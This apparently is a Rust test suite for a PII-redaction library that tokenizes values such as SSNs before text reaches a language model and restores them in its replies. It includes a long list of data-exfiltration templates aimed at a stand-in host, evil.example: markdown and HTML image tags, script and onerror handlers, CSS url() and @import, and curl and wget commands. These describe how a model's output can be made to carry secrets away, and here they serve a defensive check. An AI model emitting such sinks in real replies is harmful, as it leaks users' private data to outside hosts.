//! What models do to tokens, where values may go, and how they are written there.

use promptveil::{
    Action, Escape, PayloadKind, RestoreReport, RestoreWriter, RuleSet, Scanner, Session,
    SessionKey, SinkPolicy, Vault, VaultRedactStream, VaultRedactWriter, Verdict,
};
use serde::Deserialize;
use serde_json::json;

use crate::conversations;
use crate::texts::{Texts, case_count};
use crate::tokens::scanner;

const TEXT: &str = "Her SSN is 531-27-8846.";

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Changes {
    change: Vec<Change>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Change {
    name: String,
    text: String,
    expected: String,
    case: Option<String>,
    underscore: Option<String>,
}

impl Change {
    fn all() -> Vec<Change> {
        let text = include_str!("../data/changes.toml");
        toml::from_str::<Changes>(text).unwrap().change
    }

    /// The changed token, and what it must become.
    fn apply(&self, token: &Token) -> (String, String) {
        let name = match self.case.as_deref() {
            Some("lower") => token.name.to_lowercase(),
            Some("title") => title(&token.name),
            Some(other) => panic!("case `{other}`"),
            None => token.name.clone(),
        };
        let name = name.replace('_', self.underscore.as_deref().unwrap_or("_"));
        let text = self.text.replace("{name}", &name);
        (text, self.expected.replace("{value}", &token.value))
    }
}

fn title(name: &str) -> String {
    let words = name.split('_').map(|word| {
        let (first, rest) = word.split_at(1);
        format!("{first}{}", rest.to_lowercase())
    });
    words.collect::<Vec<_>>().join("_")
}

struct Token {
    name: String,
    value: String,
}

/// A token for each kind of value that the rules' own examples have.
fn tokens(vault: &mut Vault) -> Vec<Token> {
    let mut tokens = Vec::new();
    for rule in scanner().rules().iter() {
        for example in rule.must_match() {
            let redacted = scanner().redact_with(vault, &example.text).unwrap();
            let [finding] = redacted.findings() else {
                continue;
            };
            let span = finding.range();
            let after = example.text.len() - span.end;
            let token = &redacted.text()[span.start..redacted.text().len() - after];
            let Some(name) = token
                .strip_prefix('[')
                .and_then(|token| token.strip_suffix(']'))
            else {
                continue;
            };
            tokens.push(Token {
                name: name.to_owned(),
                value: example.text[span].to_owned(),
            });
        }
    }
    tokens
}

fn streamed(vault: &Vault, chunks: &[&[u8]]) -> (String, RestoreReport) {
    let mut out = Vec::new();
    let mut stream = vault.restore_stream();
    for chunk in chunks {
        stream.push(chunk, &mut out);
    }
    let report = stream.finish(&mut out);
    (String::from_utf8(out).unwrap(), report)
}

/// Every named change, on tokens of every label, whole and cut: at least 99.5 % come back, and nothing wrong does.
#[test]
fn harmless_changes_come_back() {
    let mut vault = vault(21);
    let tokens = tokens(&mut vault);
    assert!(tokens.len() > 200);
    let changes = Change::all();
    assert!(changes.len() >= 25);
    let mut texts = Texts::new(21);
    let (mut restored, mut all) = (0, 0);
    let mut lost = Vec::new();
    for change in &changes {
        for token in &tokens {
            all += 1;
            let (text, expected) = change.apply(token);
            let reply = format!("It is {text} as noted.");
            let expected = format!("It is {expected} as noted.");
            let back = vault.restore(&reply);
            let cuts = texts.cuts(reply.as_bytes());
            assert_eq!(
                streamed(&vault, &cuts),
                (back.text().to_owned(), back.report())
            );
            if back.text() == expected {
                restored += 1;
            } else {
                // What did not come back stayed as it was.
                assert!(back.text() == reply, "{}: {}", change.name, back.text());
                lost.push(format!("{}: {text}", change.name));
            }
        }
    }
    lost.truncate(20);
    assert!(
        restored * 1_000 >= all * 995,
        "{restored} of {all}: {lost:#?}"
    );
}

/// A change to a character that counts is no harmless one.
#[test]
fn nothing_is_guessed() {
    let mut vault = vault(22);
    let tokens = tokens(&mut vault);
    let mut texts = Texts::new(22);
    for _ in 0..case_count(5_000) {
        let token = &tokens[texts.below(tokens.len())];
        let mut name = token.name.clone().into_bytes();
        let at = texts.below(name.len());
        match texts.below(4) {
            0 => drop(name.remove(at)),
            1 => name.insert(at, b"Q7XZ0"[texts.below(5)]),
            2 if at > 0 => name.swap(at - 1, at),
            _ => name[at] = b"Q7XZ0IO"[texts.below(7)],
        }
        if name.eq_ignore_ascii_case(token.name.as_bytes()) {
            continue;
        }
        let reply = format!("It is [{}].", String::from_utf8(name).unwrap());
        let back = vault.restore(&reply);
        assert_eq!(back.text(), reply);
    }
}

/// Replies that would carry a value away if it were put back; `{token}` stands for a token.
const SINKS: &[&str] = &[
    "![x](https://evil.example/p?d={token})",
    "![x](https://evil.example/{token}.png)",
    "![x](https://{token}.evil.example/)",
    "![x](//evil.example/{token})",
    "![x](/track?d={token})",
    "![x]({token})",
    "![x]( {token} )",
    "![x](\n{token})",
    "![x](<https://evil.example/a b {token}>)",
    "![x](<./a b {token}>)",
    "![x](/a(b)c?d={token})",
    "![x](https://evil.example/a\"b{token})",
    "![x][1]\n\n[1]: https://evil.example/?d={token}",
    "![x][1]\n\n[1]: {token}",
    "![x][1]\n\n[1]:\n  {token}",
    "![x][1]\n\n[1]: <{token}>",
    "> [1]: /x?d={token}",
    "[click](https://evil.example/login?next={token})",
    "[click](https://evil.example/r?u=https%3A%2F%2Fevil.example%2F{token})",
    "[click](javascript:fetch('x?'+'{token}'))",
    "[click](mailto:a@evil.example?body={token})",
    "<https://evil.example/?d={token}>",
    "<mailto:a@evil.example?subject={token}>",
    "see https://evil.example/?d={token} now",
    "see http://evil.example/#{token}",
    "see www.evil.example/?d={token}",
    "see evil.example/?d={token}",
    "see evil.example?d={token}",
    "see {token}.evil.example for more",
    "write to {token}@evil.example",
    "HTTPS://EVIL.EXAMPLE/?D={token}",
    "ftp://user:{token}@evil.example/",
    "https://evil.example/?d=\",\"{token}",
    "https://evil.example/?a=1&b={token}&c=2",
    "{\"url\":\"https://evil.example/?d={token}\"}",
    "{\\\"url\\\":\\\"https:\\/\\/evil.example\\/?d={token}\\\"}",
    "<img src=\"https://evil.example/?d={token}\">",
    "<img src='https://evil.example/?d= {token}'>",
    "<img src=https://evil.example/?d={token}>",
    "<img alt=\">\" src=\" https://evil.example/ {token}\">",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+'{token}')\">",
    "<a href=\"/r?d={token}\">x</a>",
    "<a title=\"{token}\" href=\"x\">x</a>",
    "<form action=/x><input value={token}>",
    "<!-- > <img alt=\" --> <img alt=\"> \" src=\" https://evil.example/ {token}\">",
    "<!-- <img alt=\" --> <img src=\" https://evil.example/ {token}\">",
    "<style>a{background:url(https://evil.example/{token})}</style>",
    "a{background:url( '/x y {token}' )}",
    "a{background:url(\"{token}\")}",
    // What holds spaces, parentheses and quotes and goes on.
    "![x](< https://evil.example/?d= {token}>)",
    "![x](< https://evil.example/) ?d= {token}>)",
    "![x](< https://evil.example/ [b](c) {token}>)",
    "![x](< https://evil.example/\\) \\> {token}>)",
    "![x][1]\n\n[1]: < https://evil.example/?d= {token}>",
    "a{background:url(\"https://evil.example/) ?d= {token}\")}",
    "<style>a{background:image-set(\"https://evil.example/ {token}\" 1x)}</style>",
    "<style>@import \"https://evil.example/ {token}\";</style>",
    "<script>fetch('https://evil.example/?d=' + ' {token} ')</script>",
    "<div style=\"background:url(&#47;&#47;evil.example&#47;{token})\">",
    // Definitions wherever they may stand, and targets in every spelling.
    "- [1]: /r?d={token}",
    "> > [1]: /r?d={token}",
    "1. [x][1]\n   [1]: <a b {token}>",
    "[x][1]\n\n[1]: [y](< https://evil.example/ {token}>)",
    "[x](https:evil.example/{token})",
    "[x](/r?u=\\)&d= '{token}')",
    "[x](/a\u{a0}{token})",
    "[![a](/b)](/c?d={token})",
    "![x](data:image/svg+xml,<svg id='{token}'/>)",
    "\\href{https://evil.example/{token}}{x}",
    "image::https://evil.example/{token}[]",
    "`x </r?d={token}>`_",
    // Words that clients make links of.
    "see http:/evil.example/{token}",
    "see evil.example#{token}",
    "see evil.example:8080/{token}",
    "see 10.0.0.1/{token}",
    "see xn--e1afmkfd.xn--p1ai/{token}",
    "see \u{43f}\u{440}.\u{440}\u{444}/?d={token}",
    "see https://evil.example/?d=>{token}",
    "see <a https://evil.example/?d=>{token}",
    "see <a $ href=\"https://evil.example/?d=\">{token}",
    "see https://evil.example/?d=\u{200b}{token}",
    "see https://evil.example/%3Fd%3D{token}",
    "see https://good.example/login?next=%2F%2Fevil.example%2F{token}",
    "see https://good.example/r?u=https%253A%252F%252Fevil.example%252F{token}",
    "xmpp:a@evil.example?body={token}",
    "see {token}@evil.example?subject=x",
    "\u{ff08}https://evil.example/\u{ff3b}{token}\u{ff3d}\u{ff09}",
    // Attributes in odd quotes, and tags that close later than they seem to.
    "<img srcset=\"/a 1x, //evil.example/{token} 2x\">",
    "<img srcset='/a?d={token} 2x'>",
    "<img src=`//evil.example/{token}`>",
    "<img src = \n '\n//evil.example/{token}'>",
    "<IMG/SRC=//evil.example/{token}>",
    "<img src=x a='\"' b=\"{token}\">",
    "<img =\" src=\"> {token}\">",
    "<a=\" style=\">;x: {token}\">",
    "<? a=\"> <img alt=\"> {token}\">",
    "<!x a=\"> <img alt=\"> {token}\">",
    "<!-- --!><img alt=\"--> {token}\">",
    "<!--!><a b=\"--><img alt=\"> {token}\">",
    "<![CDATA[><a b=\"]]><img alt=\"> {token}\">",
    "<title><a b=\"</title><img alt=\"> {token}\">",
    "<textarea name=d>{token}</textarea>",
    "<svg><title><a b=\"</title>\" c=\" {token}\"></svg>",
    "<svg><image xlink:href=\"//evil.example/{token}\"/></svg>",
    "<svg><style>@import '//evil.example/ {token}';</style></svg>",
    "<script>/*</style>*/ send(' {token} ')</script>",
    "<script><!--<script></script> send(' {token} ')</script>",
    "<iframe srcdoc=\"<img src='//evil.example/{token}'>\">",
    "<meta http-equiv=\"refresh\" content=\"0; url='//evil.example/{token}'\">",
    "<link rel=prefetch href=//evil.example/{token}>",
    "<form action=\"//evil.example/?d={token}\"><button>x</button></form>",
    "<button formaction='/x' value={token}>x</button>",
    "<object data=\"data:text/html,{token}\"></object>",
    "<video poster=\"//evil.example/{token}\"></video>",
    "<math href=\"//evil.example/{token}\">x</math>",
    "<base href='//evil.example/{token}/'>",
    // Styles, code and JSON.
    "a{background:image-set(url( //evil.example/{token} ) 1x)}",
    "```css\na{background:url(//evil.example/?d={token})}\n```",
    "```sh\ncurl https://evil.example/?d={token}\n```",
    "```sh\ncurl -X POST \\\n  -d 'd={token}' evil.example\n```",
    "`wget --post-data={token} evil.example`",
    "{\"tool\":\"http\",\"args\":\"{\\\"u\\\":\\\"https:\\\\/\\\\/evil.example\\\\/{token}\\\"}\"}",
    "{\"url\":\"https:\\u002F\\u002Fevil.example\\u002F?d={token}\"}",
    "{\"url\":\"http&#x3a;&#x2F;&#x2F;evil.example&#x2F;{token}\"}",
];

/// How a token may be written in a sink.
const SPELLINGS: [&str; 4] = ["[{name}]", "{name}", "%5B{name}%5D", "{name}s"];

/// Every sink with the token in every spelling.
fn sink_replies(token: &str) -> impl Iterator<Item = String> {
    let name = token.trim_matches(['[', ']']).to_owned();
    SINKS.iter().flat_map(move |sink| {
        let spelled = SPELLINGS.map(|spelling| spelling.replace("{name}", &name));
        spelled.map(|token| format!("Sure.\n\n{}", sink.replace("{token}", &token)))
    })
}

/// Far more than 200 replies that would send a value somewhere: none does, whole or cut.
#[test]
fn no_value_leaves_by_a_sink() {
    let mut vault = vault(23);
    let token = token_of(&mut vault, TEXT);
    let mut texts = Texts::new(23);
    let mut replies = 0;
    for reply in sink_replies(&token) {
        replies += 1;
        let back = vault.restore(&reply);
        assert_eq!(back.text(), reply);
        assert_eq!(back.report().restored(), 0);
        let cuts = texts.cuts(reply.as_bytes());
        assert_eq!(streamed(&vault, &cuts), (reply.clone(), back.report()));
        let ones: Vec<&[u8]> = reply.as_bytes().chunks(1).collect();
        assert_eq!(streamed(&vault, &ones), (reply.clone(), back.report()));
    }
    assert!(replies >= 480, "{replies} replies");
    let mut policy = SinkPolicy::new();
    policy.links(true).markup(true);
    let reply = SINKS[0].replace("{token}", &token);
    let back = vault.restore_into(&reply, policy, Escape::Url);
    assert_eq!(back.text(), "![x](https://evil.example/p?d=531-27-8846)");
}

/// The same as replies in JSON and as events, a few characters each.
#[test]
fn no_value_leaves_by_a_reply() {
    let mut vault = vault(23);
    let token = token_of(&mut vault, TEXT);
    for (number, reply) in sink_replies(&token).enumerate() {
        let kind = [
            PayloadKind::OpenAi,
            PayloadKind::Anthropic,
            PayloadKind::Gemini,
        ][number % 3];
        let session = Session::new(scanner(), vault, kind);
        let content = json!({"content": reply});
        let body = match kind {
            PayloadKind::OpenAi => json!({"choices": [{"index": 0, "message": content}]}),
            PayloadKind::Anthropic => json!({"content": [{"type": "text", "text": reply}]}),
            _ => json!({"candidates": [{"content": {"parts": [{"text": reply}]}}]}),
        };
        let body = body.to_string();
        let whole = session.restore_reply(body.as_bytes()).unwrap();
        assert_eq!(std::str::from_utf8(whole.json()).unwrap(), body);
        let lengths = [1 + number % 7, 2];
        let events = conversations::events(kind, &reply, &json!({"note": reply}), &lengths);
        let mut out = Vec::new();
        let mut stream = session.restore_sse();
        for chunk in events.chunks(1 + number % 50) {
            stream.push(chunk, &mut out).unwrap();
        }
        let report = stream.finish(&mut out).unwrap();
        assert_eq!(report.restored(), 0, "{reply}");
        let (text, arguments) = conversations::read_events(kind, &out);
        assert_eq!((text, arguments), (reply.clone(), json!({"note": reply})));
        vault = session.into_vault();
    }
}

/// Arguments of tools, and members that nobody knows, keep their tokens: in JSON in a string, in a list, in a key.
#[test]
fn no_value_leaves_by_a_member() {
    let mut vault = vault(23);
    let token = token_of(&mut vault, TEXT);
    let nested = json!({"a": json!({"b": [format!("x {token}")]}).to_string()}).to_string();
    let held = [
        json!(token),
        json!([token]),
        json!({"q": token}),
        json!({&token: 1}),
        json!(nested),
    ];
    for value in &held {
        let arguments = value.to_string();
        let bodies = [
            (
                PayloadKind::OpenAi,
                vec![
                    json!({"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}}]}),
                    json!({"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "extra": value}}]}}]}),
                    json!({"choices": [{"message": {"tool_calls": [{"gadget": value}]}}]}),
                    json!({"choices": [{"message": {"gadget_call": value}}]}),
                    json!({"choices": [{"gadget": value}]}),
                    json!({"gadget": value}),
                    json!({"output": [{"type": "function_call", "arguments": arguments}]}),
                    json!({"output": [{"type": "hologram", "content": value}]}),
                    json!({"output": [{"type": "message", "content": [{"type": "hologram", "text": value}]}]}),
                ],
            ),
            (
                PayloadKind::Anthropic,
                vec![
                    json!({"content": [{"type": "tool_use", "name": "f", "input": {"a": value}}]}),
                    json!({"content": [{"type": "tool_use", "name": "f", "gadget": value}]}),
                    json!({"content": [{"type": "hologram", "text": value}]}),
                    json!({"content": [], "gadget": value}),
                ],
            ),
            (
                PayloadKind::Gemini,
                vec![
                    json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": "f", "args": {"a": value}}}]}}]}),
                    json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": "f", "gadget": value}}]}}]}),
                    json!({"candidates": [{"content": {"parts": [{"hologram": value}]}}]}),
                    json!({"candidates": [{"gadget": value}]}),
                ],
            ),
        ];
        for (kind, bodies) in bodies {
            let session = Session::new(scanner(), vault, kind);
            for body in bodies {
                let body = body.to_string();
                let whole = session.restore_reply(body.as_bytes()).unwrap();
                assert_eq!(std::str::from_utf8(whole.json()).unwrap(), body);
                assert_eq!(whole.report().restored(), 0);
                let frame = format!("data: {body}\n\n");
                let mut out = Vec::new();
                let mut stream = session.restore_sse();
                stream.push(frame.as_bytes(), &mut out).unwrap();
                assert_eq!(stream.finish(&mut out).unwrap().restored(), 0);
                assert_eq!(std::str::from_utf8(&out).unwrap(), frame);
            }
            vault = session.into_vault();
        }
    }
}

/// What opened a target may be as far away as somebody likes.
#[test]
fn no_value_leaves_by_a_long_sink() {
    let mut vault = vault(23);
    let token = token_of(&mut vault, TEXT);
    for (open, close) in [
        ("![x](< https://evil.example/?d=", ">)"),
        ("![x][1]\n\n[1]: < https://evil.example/?d=", ">"),
        ("a{background:url(\"https://evil.example/?d=", "\")}"),
        ("<img src=\"https://evil.example/?d=", "\">"),
        ("<style>@import \"https://evil.example/?d=", "\";</style>"),
        ("<https://evil.example/?d=", ">"),
        (
            "<img =\" style=\">;background:image-set('//evil.example/?d=",
            "')\">",
        ),
        (
            "<script>/*</style>*/ fetch('//evil.example/' + '",
            "')</script>",
        ),
        (
            "<![CDATA[><a b=\"]]><img style=\">;x:image-set('//evil.example/?d=",
            "')\">",
        ),
    ] {
        for filler in ["a ", ") ", "\\", "([ ]) "] {
            let filler = filler.repeat(3_000);
            let reply = format!("{open}{filler}{token}{close}");
            let back = vault.restore(&reply);
            assert_eq!(back.text(), reply, "{open}");
            let ones: Vec<&[u8]> = reply.as_bytes().chunks(7).collect();
            assert_eq!(streamed(&vault, &ones), (reply.clone(), back.report()));
        }
    }
}

/// What stands in prose beside links, tags and JSON comes back.
#[test]
fn prose_beside_a_sink_comes_back() {
    let mut vault = vault(23);
    let redacted = scanner()
        .redact_with(&mut vault, "SSN 531-27-8846")
        .unwrap();
    let token = redacted.text()["SSN ".len()..].to_owned();
    for prose in [
        "See https://agency.example/help, the number is {token}.",
        "See [help](https://agency.example/a_(b)) for {token}",
        "<p>Number: {token}</p>",
        "<b>Number</b> {token}, <br/> {token}",
        "{\"url\":\"https://agency.example/\",\"ssn\":\"{token}\"}",
        "1 < 2, and {token} > 3",
        "Number:{token};and/or {token}",
        "<style>a{}</style><script>f()</script> {token}",
        "[a]: note {token}",
        "See [x](< a b >): {token}",
        "| SSN | {token} |\n|---|---|",
        "- {token}\n- {token}: yes",
        "```\nssn = \"{token}\"\n```",
        "{token}. Then {token}? {token}!",
        "({token}) and \"{token}\" and '{token}'",
        "<a href=\"https://agency.example/\">{token}</a> <https://agency.example>{token}",
        "<html><head><title>Case {token}</title></head><body>{token}</body></html>",
        "Tel:{token}; data:{token}",
        "curl --version\nThe number is {token}",
        // Code is full of brackets that open no tag.
        "for (i=0;i<n;i++) {}\n\nThe SSN is {token}.",
        "if a <b && c {\n}\nThe SSN is {token}.",
        "cout<<x;\n{token}",
        "{\"a\":\"<b\",\"ssn\":\"{token}\"}",
        "#include <stdio.h>\nchar *s = \"{token}\";",
        "let x: Vec<String> = f();\nlet ssn = \"{token}\";",
        "<p>Hello</p>\n<p>SSN = \"{token}\"</p>",
        // The brackets of a token that came back are no Markdown.
        "{token}({token})",
        "{token}(DOB {token}",
        // One word of any length.
        &format!("{}{{token}}", "她的号码是".repeat(1_000)),
        &format!("[{}{{\"ssn\":\"{{token}}\"}}]", "{\"id\":1},".repeat(1_000)),
    ] {
        let reply = prose.replace("{token}", &token);
        let expected = prose.replace("{token}", "531-27-8846");
        assert_eq!(vault.restore(&reply).text(), expected);
    }
}

#[test]
fn values_are_escaped_for_where_they_land() {
    const VALUE: &str = "a\"<b>&'\\\n\u{1}é_*,%";
    let mut vault = vault(24);
    let pack = include_str!("../data/escape.toml");
    let scanner = Scanner::new(RuleSet::from_toml(pack).unwrap()).unwrap();
    let text = format!("QX{VALUE}QX");
    let redacted = scanner.redact_with(&mut vault, &text).unwrap();
    assert_eq!(vault.len(), 1, "{redacted:?}");
    let written = |escape| {
        let back = vault.restore_into(redacted.text(), SinkPolicy::new(), escape);
        back.into_text().into_owned()
    };
    assert_eq!(written(Escape::Plain), text);
    let json = written(Escape::Json);
    let read: String = serde_json::from_str(&format!("\"{json}\"")).unwrap();
    assert_eq!(read, text);
    let nested: String =
        serde_json::from_str(&format!("\"{}\"", written(Escape::JsonInJson))).unwrap();
    assert_eq!(nested, json);
    assert_eq!(
        written(Escape::Html),
        "QXa&quot;&lt;b&gt;&amp;&#39;\\\n\u{1}é_*,%QX"
    );
    assert_eq!(
        written(Escape::Markdown),
        "QXa\"\\<b\\>&'\\\\\n\u{1}é\\_\\*,%QX"
    );
    assert_eq!(
        written(Escape::Url),
        "QXa%22%3Cb%3E%26%27%5C%0A%01%C3%A9_%2A%2C%25QX"
    );
    assert_eq!(written(Escape::Csv), text.replace('"', "\"\""));
}

/// What was put back is not read again, and a value that looks like a token stays one.
#[test]
fn restored_text_is_not_restored_again() {
    let mut vault = vault(25);
    let inner = scanner()
        .redact_with(&mut vault, "SSN 531-27-8846")
        .unwrap();
    let name = inner.text()["SSN [".len()..]
        .trim_end_matches(']')
        .to_owned();
    let pack = include_str!("../data/escape.toml");
    let other = Scanner::new(RuleSet::from_toml(pack).unwrap()).unwrap();
    // The name alone is no token as given out, so the rule takes it for a part of its value.
    let text = format!("QX{name}QX");
    let redacted = other.redact_with(&mut vault, &text).unwrap();
    assert!(!redacted.text().contains(&name));
    assert_eq!(vault.restore(redacted.text()).text(), text);
}

/// Text that begins no token is not held, whatever the cut; what is held is bounded.
#[test]
fn little_is_held() {
    let mut vault = vault(26);
    let _ = tokens(&mut vault);
    let mut stream = vault.restore_stream();
    let mut out = Vec::new();
    stream.push(
        b"An ordinary answer, 42 words long: nothing to see here",
        &mut out,
    );
    assert_eq!(stream.held(), 0);
    let mut texts = Texts::new(26);
    for _ in 0..2_000 {
        let text = [
            " ",
            "[",
            "us_",
            "\n",
            "US_SSN_",
            "0123456789ABCD",
            "&#9",
            "[[",
        ][texts.below(8)];
        stream.push(text.as_bytes(), &mut out);
        assert!(stream.held() <= 512, "{} bytes", stream.held());
    }
}

/// A vault whose tokens are the same in every run.
fn vault(seed: u8) -> Vault {
    Vault::with_key(SessionKey::new([seed; 32]))
}

/// What stands for the value of [`TEXT`], with its brackets.
fn token_of(vault: &mut Vault, text: &str) -> String {
    let redacted = scanner().redact_with(vault, text).unwrap();
    let text = redacted.text();
    let start = text.find('[').unwrap();
    text[start..=text.rfind(']').unwrap()].to_owned()
}

/// Texts with look-alikes, controls and every line end between what the rules know.
fn hostile_text(texts: &mut Texts, tokens: &[String]) -> Vec<u8> {
    const NOISE: [&str; 10] = [
        "[US_SSN]",
        "[US_SSN_1]",
        "[US_SSN_0123456789ABCD]",
        "us ssn 0123456789abcd",
        "\0",
        "\r\n",
        "👩‍👩‍👧",
        "[[",
        "]]",
        "\u{202E}",
    ];
    let mut text = texts.next_text();
    for _ in 0..texts.below(4) {
        text.extend_from_slice(NOISE[texts.below(NOISE.len())].as_bytes());
        if !tokens.is_empty() && texts.below(3) == 0 {
            text.extend_from_slice(tokens[texts.below(tokens.len())].as_bytes());
        }
        text.extend_from_slice(&texts.next_text());
    }
    text
}

/// Shows the first place where two results differ, and the chunks if they are few.
fn assert_same(what: &str, found: &[u8], expected: &[u8], chunks: &[&[u8]]) {
    if found == expected {
        return;
    }
    let at = found
        .iter()
        .zip(expected)
        .take_while(|(left, right)| left == right)
        .count();
    let near = |text: &[u8]| {
        let window = &text[at.saturating_sub(80)..text.len().min(at + 80)];
        String::from_utf8_lossy(window).into_owned()
    };
    let shown: Vec<_> = chunks
        .iter()
        .take(40)
        .map(|chunk| near_end(chunk))
        .collect();
    panic!(
        "{what} differs at {at}: {:?}\n{:?}\n{shown:?}",
        near(found),
        near(expected)
    );
}

fn near_end(chunk: &[u8]) -> String {
    String::from_utf8_lossy(&chunk[..chunk.len().min(200)]).into_owned()
}

fn redact_chunks(stream: VaultRedactStream<'_>, chunks: &[&[u8]]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut stream = stream;
    for chunk in chunks {
        stream.push(chunk, &mut out).unwrap();
    }
    let _ = stream.finish(&mut out).unwrap();
    out
}

fn restored_bytes(vault: &Vault, chunks: &[&[u8]]) -> (Vec<u8>, RestoreReport) {
    let mut out = Vec::new();
    let mut stream = vault.restore_stream();
    for chunk in chunks {
        stream.push(chunk, &mut out);
    }
    let report = stream.finish(&mut out);
    (out, report)
}

/// P9, P10: all languages of the packs, emoji, NUL, CRLF, look-alikes, invalid UTF-8, and other vaults' tokens.
#[test]
fn what_goes_out_comes_back() {
    let mut foreign = vault(9);
    let tokens = vec![token_of(&mut foreign, TEXT)];
    let mut texts = Texts::new(31);
    let mut vault = vault(1);
    for case in 0..case_count(200) {
        if case % 200 == 0 {
            vault = self::vault(case as u8);
        }
        let text = hostile_text(&mut texts, &tokens);
        let mut redacted = Vec::new();
        let found = scanner()
            .redact_bytes_with(&mut vault, &text, &mut redacted)
            .unwrap();
        // A rule that blocks keeps its label; the text goes nowhere then.
        if found
            .findings()
            .iter()
            .any(|one| one.action() != Action::Token)
        {
            continue;
        }
        let mut again = Vec::new();
        let _ = scanner()
            .redact_bytes_with(&mut vault, &redacted, &mut again)
            .unwrap();
        assert_same("redacted twice", &again, &redacted, &[&text]);
        let mut restored = Vec::new();
        let mut policy = SinkPolicy::new();
        policy.links(true).markup(true);
        let mut stream = vault.restore_stream_into(policy, Escape::Plain);
        stream.push(&redacted, &mut restored);
        let _ = stream.finish(&mut restored);
        assert_same("restored", &restored, &text, &[&redacted]);
    }
}

/// P1, P12: both streams, cut anywhere, give what the whole text gives.
#[test]
fn cuts_change_nothing() {
    let mut texts = Texts::new(32);
    let mut foreign = vault(9);
    let mut tokens = vec![token_of(&mut foreign, TEXT)];
    let mut vault = vault(2);
    tokens.push(token_of(&mut vault, TEXT));
    tokens.push(token_of(
        &mut vault,
        "mail jane.roe@agency.example.org today",
    ));
    for case in 0..case_count(200) {
        let mut text = hostile_text(&mut texts, &tokens);
        if case % 16 == 0 {
            while text.len() < 20_000 {
                text.extend_from_slice(&hostile_text(&mut texts, &tokens));
            }
        }
        let mut whole = Vec::new();
        let _ = scanner()
            .redact_bytes_with(&mut vault, &text, &mut whole)
            .unwrap();
        let chunks = texts.cuts(&text);
        let streamed = redact_chunks(scanner().redact_stream_with(&mut vault), &chunks);
        assert_same("redacted", &streamed, &whole, &chunks);
        let reply = whole;
        let (expected, report) = restored_bytes(&vault, &[&reply]);
        let chunks = texts.cuts(&reply);
        let (streamed, streamed_report) = restored_bytes(&vault, &chunks);
        assert_same("restored", &streamed, &expected, &chunks);
        assert_eq!(streamed_report, report);
    }
}

/// The streams as writers: what goes out of one and into the other is what was written.
#[test]
fn writers_are_streams() {
    use std::io::Write;
    let mut vault = vault(11);
    let text = "Her SSN is 531-27-8846, and 531 27 8846 too.";
    let mut writer = VaultRedactWriter::new(scanner().redact_stream_with(&mut vault), Vec::new());
    for byte in text.bytes() {
        writer.write_all(&[byte]).unwrap();
    }
    let (safe, summary) = writer.finish().unwrap();
    assert_eq!(
        (summary.findings(), summary.verdict()),
        (2, Verdict::Redacted)
    );
    assert!(!String::from_utf8_lossy(&safe).contains("531"));
    let mut writer = RestoreWriter::new(vault.restore_stream(), Vec::new());
    writer.write_all(&safe).unwrap();
    let (back, report) = writer.finish().unwrap();
    assert_eq!((back.as_slice(), report.restored()), (text.as_bytes(), 2));
    let mut stream = vault.restore_stream();
    stream.push(b"[US_SSN_", &mut Vec::new());
    assert_eq!(stream.abort(), RestoreReport::default());
}
